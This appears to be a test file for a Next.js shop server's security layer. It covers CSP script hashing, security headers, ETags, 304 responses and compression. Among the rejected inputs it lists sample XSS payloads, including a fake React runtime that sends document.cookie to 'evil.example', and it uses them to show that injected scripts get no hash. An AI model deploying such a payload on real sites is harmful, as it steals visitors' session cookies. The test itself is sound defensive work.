import { createHash } from "node:crypto";
import http from "node:http";
import type { AddressInfo } from "node:net";
import zlib from "node:zlib";
import {
  baseHeaders,
  createScriptCheck,
  inlineScriptHashes,
  pagePolicy,
  reactRuntimeSnippets,
  RESOURCE_POLICY,
  secureResponse,
} from "@/server/security.mjs";
import { PUBLIC_CACHE_CONTROL } from "@/server/cache-control.mjs";
import { compressAsItStreams } from "@/server/compression.mjs";

const sha = (text: string) =>
  `sha256-${createHash("sha256").update(text, "utf8").digest("base64")}`;
const isTrusted = createScriptCheck();

// Inline scripts as Next and React write them into the shop's pages.
const rscChunk =
  'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n2:I[\\"/_next/static/chunks/a.js\\"]\\u003c/script\\u003e"])';
const rscStart = "(self.__next_f=self.__next_f||[]).push([0])";
const turbopackChunks =
  '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[94553]});';
const shellTime = "requestAnimationFrame(function(){$RT=performance.now()});";

describe("which inline scripts get a hash", () => {
  const snippets = reactRuntimeSnippets();
  const completeBoundary = snippets.find((s) => s.startsWith("$RB=[];$RV=function"))!;

  it("reads React's streaming runtime from the build Next renders with", () => {
    expect(completeBoundary).toContain("$RC=function(a,b)");
    expect(snippets).toContain(shellTime);
    expect(snippets.some((s) => s.startsWith("$RX=function"))).toBe(true);
    expect(snippets.some((s) => s.startsWith("$RS=function"))).toBe(true);
  });

  it.each([
    ["an RSC payload chunk", rscChunk],
    ["the RSC payload's start", rscStart],
    ["the bundler's chunk list", turbopackChunks],
    ["React's shell timer", shellTime],
    ["React's boundary runtime and its first call", `${completeBoundary}$RC("B:0","S:0")`],
    ["a later boundary call", '$RC("B:1","S:1")'],
    ["an error boundary call", '$RX("B:2","digest-123",null,null,null)'],
    ["a styled boundary call", '$RR("B:3","S:3",[["/_next/static/a.css","next"]])'],
  ])("trusts %s", (_label, script) => {
    expect(isTrusted(script)).toBe(true);
  });

  it.each([
    ["a plain script", "alert(document.cookie)"],
    ["code after an RSC chunk", 'self.__next_f.push([1,"x"]);alert(1)'],
    ["code inside the push", "self.__next_f.push([1,alert(1)])"],
    ["code after the bundler's list", `${turbopackChunks}alert(1)`],
    [
      "a look-alike React runtime",
      '$RC=function(a,b){fetch(\'//evil.example/\'+document.cookie)};$RC("B:0","S:0")',
    ],
    ["code after React's runtime", `${completeBoundary}alert(1)`],
    ["code after a boundary call", '$RC("B:1","S:1");alert(1)'],
    ["a call with code for an argument", '$RC("B:1",alert(1))'],
    ["nothing", ""],
  ])("refuses %s", (_label, script) => {
    expect(isTrusted(script)).toBe(false);
  });

  it("hashes each trusted inline script once; external scripts and JSON-LD need none", () => {
    const html = [
      "<!DOCTYPE html><html><head>",
      '<script src="/_next/static/chunks/a.js" async=""></script>',
      `<script id="_R_">${turbopackChunks}</script>`,
      '<script type="application/ld+json">{"@type":"Product","name":"</script>"}</script>',
      "</head><body>",
      `<script>${rscStart}</script><script>${rscChunk}</script><script>${rscChunk}</script>`,
      "<script>alert(1)</script>",
      "</body></html>",
    ].join("");
    expect(inlineScriptHashes(html, isTrusted).sort()).toEqual(
      [sha(turbopackChunks), sha(rscStart), sha(rscChunk)].sort(),
    );
  });
});

describe("policies", () => {
  it("a production page allows scripts only from our origin and by hash: no unsafe-inline, no eval", () => {
    const policy = pagePolicy({ scriptHashes: ["sha256-abc="], https: true });
    const scriptSrc = policy.split("; ").find((d) => d.startsWith("script-src "));
    expect(scriptSrc).toBe("script-src 'self' 'sha256-abc='");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).toContain("object-src 'none'");
    expect(policy).toContain("base-uri 'none'");
    expect(policy).toContain("upgrade-insecure-requests");
    expect(policy).not.toMatch(/unsafe-eval/);
  });

  it("development relaxes scripts for React's development build", () => {
    expect(pagePolicy({ scriptHashes: [], dev: true })).toContain("'unsafe-eval'");
  });

  it("HSTS only when asked (production over https)", () => {
    expect(baseHeaders({ hsts: true })["Strict-Transport-Security"]).toMatch(/^max-age=\d{8}/);
    expect(baseHeaders({ hsts: false })).not.toHaveProperty("Strict-Transport-Security");
  });
});

describe("secureResponse on a Node server", () => {
  let trustChecks = 0;
  const countingTrustCheck = (script: string) => {
    trustChecks++;
    return isTrusted(script);
  };
  const page = `<html><body><p>Rings</p><script>${rscChunk}</script><script>alert(1)</script></body></html>`;
  // A catalogue answer: JSON every visitor gets the same, naming its version (lib/catalogue.ts).
  const answer = JSON.stringify(
    Array.from({ length: 40 }, (_, i) => ({ id: i, name: `Cedar Ring ${i}`, price: 25 + i })),
  );
  const answerEtag = 'W/"catalogue-v1"';
  const orderAnswer = JSON.stringify({ error: "Some items are out of stock", items: [] });
  const largeOrderAnswer = JSON.stringify({
    orders: Array.from({ length: 30 }, (_, i) => ({ orderNumber: `ORD-${i}`, status: "pending" })),
  });
  // Next's empty 404 document, and the one the entry point sends instead (server/not-found-pages.mjs).
  const emptyNotFound = `<!DOCTYPE html><html id="__next_error__"><head></head><body><script>${rscChunk}</script></body></html>`;
  const dressNotFound = (_req: http.IncomingMessage, body: Buffer | string) =>
    String(body) === emptyNotFound
      ? Buffer.from(emptyNotFound.replace("<body>", "<body><h1>Product Not Found</h1>"))
      : null;
  let server: http.Server;
  let base: string;

  beforeAll(async () => {
    server = http.createServer((req, res) => {
      // As the entry point composes them (server/index.mjs).
      compressAsItStreams(req, res, () => {});
      secureResponse(req, res, {
        headers: baseHeaders({ hsts: false }),
        isTrusted: countingTrustCheck,
        dev: false,
        https: false,
        dressNotFound,
      });
      if (req.url === "/answer" || req.url === "/private-answer") {
        // As Next serves it from its cache: headers set, flushed, then the body in pieces.
        res.setHeader("Content-Type", "application/json");
        res.setHeader(
          "Cache-Control",
          req.url === "/answer" ? PUBLIC_CACHE_CONTROL : "private, no-store",
        );
        res.setHeader("ETag", answerEtag);
        res.flushHeaders();
        res.write(answer.slice(0, 100));
        res.end(answer.slice(100));
      } else if (req.url!.startsWith("/order-answer")) {
        // A per-user answer as Next streams a route's JSON: no length, in pieces.
        const body = req.url === "/order-answer-large" ? largeOrderAnswer : orderAnswer;
        res.statusCode = 409;
        res.setHeader("Content-Type", "application/json");
        res.setHeader("Cache-Control", "private, no-store");
        res.write(body.slice(0, 10));
        setTimeout(() => res.end(body.slice(10)), 5);
      } else if (req.url!.startsWith("/missing/")) {
        // A 404 as Next sends it from its cache: one string, shared.
        res.statusCode = 404;
        res.setHeader("Content-Type", "text/html; charset=utf-8");
        res.setHeader("Cache-Control", PUBLIC_CACHE_CONTROL);
        res.end(req.url === "/missing/product" ? emptyNotFound : `${page}<!-- not found -->`);
      } else if (req.url === "/json") {
        res.setHeader("Content-Type", "application/json");
        res.end("{}");
      } else if (req.url === "/not-modified") {
        res.writeHead(304, { "Content-Type": "text/html" });
        res.end();
      } else {
        // Streamed in pieces, compressed when asked, as Next answers.
        const gzip = req.url!.startsWith("/gzip");
        res.writeHead(200, {
          "Content-Type": "text/html; charset=utf-8",
          ...(gzip ? { "Content-Encoding": "gzip" } : {}),
        });
        const html = req.url === "/gzip-again" ? `${page}<!-- again -->` : page;
        const body = gzip ? zlib.gzipSync(html) : Buffer.from(html);
        const middle = body.length >> 1;
        res.write(body.subarray(0, middle));
        setTimeout(() => res.end(body.subarray(middle)), 10);
      }
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise((resolve) => server.close(resolve)));

  it.each(["/plain", "/gzip"])(
    "sends %s whole with a policy naming its trusted script",
    async (path) => {
      const response = await fetch(base + path);
      expect(await response.text()).toBe(page);
      const policy = response.headers.get("content-security-policy")!;
      expect(policy).toContain(`script-src 'self' '${sha(rscChunk)}';`);
      expect(policy).not.toContain(sha("alert(1)"));
      expect(response.headers.get("x-frame-options")).toBe("DENY");
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    },
  );

  it("sends a 404 as the not-found screens give it, with a policy naming its scripts; another 404 from memory", async () => {
    const dressed = await fetch(`${base}/missing/product`);
    expect(dressed.status).toBe(404);
    expect(await dressed.text()).toContain("<body><h1>Product Not Found</h1>");
    expect(dressed.headers.get("content-security-policy")).toContain(sha(rscChunk));

    const first = await fetch(`${base}/missing/page`);
    expect(await first.text()).toBe(`${page}<!-- not found -->`);
    const readsAfterFirst = trustChecks;
    const second = await fetch(`${base}/missing/page`);
    expect(await second.text()).toBe(`${page}<!-- not found -->`);
    expect(second.headers.get("content-security-policy")).toContain(sha(rscChunk));
    expect(trustChecks).toBe(readsAfterFirst);
  });

  it("reads a page it has sent before from memory: the same bytes, the same policy, no second reading", async () => {
    const readsBefore = trustChecks;
    const first = await fetch(`${base}/gzip-again`);
    await first.text();
    const readsAfterFirst = trustChecks;
    expect(readsAfterFirst).toBeGreaterThan(readsBefore);
    const second = await fetch(`${base}/gzip-again`);
    expect(await second.text()).toBe(`${page}<!-- again -->`);
    expect(second.headers.get("content-security-policy")).toContain(sha(rscChunk));
    expect(second.headers.get("content-security-policy")).toBe(
      first.headers.get("content-security-policy"),
    );
    expect(trustChecks).toBe(readsAfterFirst);
  });

  it.each(["/plain", "/gzip"])(
    "gives %s an ETag of its bytes as sent, and answers 304 to a browser that holds it",
    async (path) => {
      const first = await fetch(base + path);
      await first.text();
      const etag = first.headers.get("etag")!;
      expect(etag).toMatch(/^"[\w-]{27}"$/);
      const again = await fetch(base + path, {
        headers: { "If-None-Match": `"other", W/${etag}` },
      });
      expect(again.status).toBe(304);
      expect(await again.text()).toBe("");
      expect(again.headers.get("etag")).toBe(etag);
      expect(again.headers.get("content-security-policy")).toBeNull();
      const posted = await fetch(base + path, {
        method: "POST",
        headers: { "If-None-Match": etag },
      });
      expect(posted.status).toBe(200);
      expect(await posted.text()).toBe(page);
      const changed = await fetch(`${base}/gzip-again`, { headers: { "If-None-Match": etag } });
      expect(changed.status).toBe(200);
      expect(changed.headers.get("etag")).not.toBe(etag);
    },
  );

  it("gives other answers the strict policy, and a 304 none (the stored page keeps its own)", async () => {
    const json = await fetch(`${base}/json`);
    expect(json.headers.get("content-security-policy")).toBe(RESOURCE_POLICY);
    expect(json.headers.get("referrer-policy")).toBe("strict-origin-when-cross-origin");
    const notModified = await fetch(`${base}/not-modified`);
    expect(notModified.status).toBe(304);
    expect(notModified.headers.get("content-security-policy")).toBeNull();
    expect(notModified.headers.get("x-frame-options")).toBe("DENY");
  });

  it.each([
    ["as it is", "identity", null],
    ["gzip", "gzip", "gzip"],
    ["brotli", "br, gzip", "br"],
  ])(
    "sends a catalogue answer %s, whole, with its own ETag and length",
    async (_label, accepted, sentEncoding) => {
      const response = await fetch(`${base}/answer`, {
        headers: { "Accept-Encoding": accepted },
      });
      expect(response.headers.get("content-encoding")).toBe(sentEncoding);
      expect(await response.text()).toBe(answer);
      expect(response.headers.get("etag")).toBe(answerEtag);
      expect(Number(response.headers.get("content-length"))).toBeGreaterThan(0);
      if (!sentEncoding) expect(Number(response.headers.get("content-length"))).toBe(answer.length);
      expect(response.headers.get("vary")).toContain("Accept-Encoding");
      expect(response.headers.get("content-security-policy")).toBe(RESOURCE_POLICY);
    },
  );

  it.each([
    ["sent as it is when it fits in a packet", "/order-answer", "br, gzip", null],
    ["compressed when it is larger", "/order-answer-large", "br, gzip", "br"],
    ["sent as it is to a client that takes no encoding", "/order-answer-large", "identity", null],
  ])(
    "gives a per-user JSON answer its length: %s",
    async (_label, path, accepted, sentEncoding) => {
      const response = await fetch(base + path, { headers: { "Accept-Encoding": accepted } });
      expect(response.status).toBe(409);
      expect(response.headers.get("content-encoding")).toBe(sentEncoding);
      expect(response.headers.get("transfer-encoding")).toBeNull();
      const body = path.endsWith("large") ? largeOrderAnswer : orderAnswer;
      expect(await response.text()).toBe(body);
      if (sentEncoding) {
        expect(Number(response.headers.get("content-length"))).toBeLessThan(body.length);
      } else {
        expect(Number(response.headers.get("content-length"))).toBe(body.length);
      }
      expect(response.headers.get("cache-control")).toBe("private, no-store");
      expect(response.headers.get("vary")).toContain("Accept-Encoding");
      expect(response.headers.get("content-security-policy")).toBe(RESOURCE_POLICY);
    },
  );

  it("answers 304 to a GET or HEAD holding a catalogue answer's version, and only then", async () => {
    for (const method of ["GET", "HEAD"]) {
      for (const held of [answerEtag, `"other", ${answerEtag}`, '"catalogue-v1"', "*"]) {
        const again = await fetch(`${base}/answer`, { method, headers: { "If-None-Match": held } });
        expect(again.status).toBe(304);
        expect(await again.text()).toBe("");
        expect(again.headers.get("etag")).toBe(answerEtag);
        expect(again.headers.get("content-type")).toBeNull();
      }
    }
    const older = await fetch(`${base}/answer`, {
      headers: { "If-None-Match": 'W/"catalogue-v0"' },
    });
    expect(older.status).toBe(200);
    expect(await older.text()).toBe(answer);
    const posted = await fetch(`${base}/answer`, {
      method: "POST",
      headers: { "If-None-Match": answerEtag },
    });
    expect(posted.status).toBe(200);
    // An answer that is not the same for everyone is never taken for the client's copy here.
    const personal = await fetch(`${base}/private-answer`, {
      headers: { "If-None-Match": answerEtag },
    });
    expect(personal.status).toBe(200);
    expect(await personal.text()).toBe(answer);
  });
});
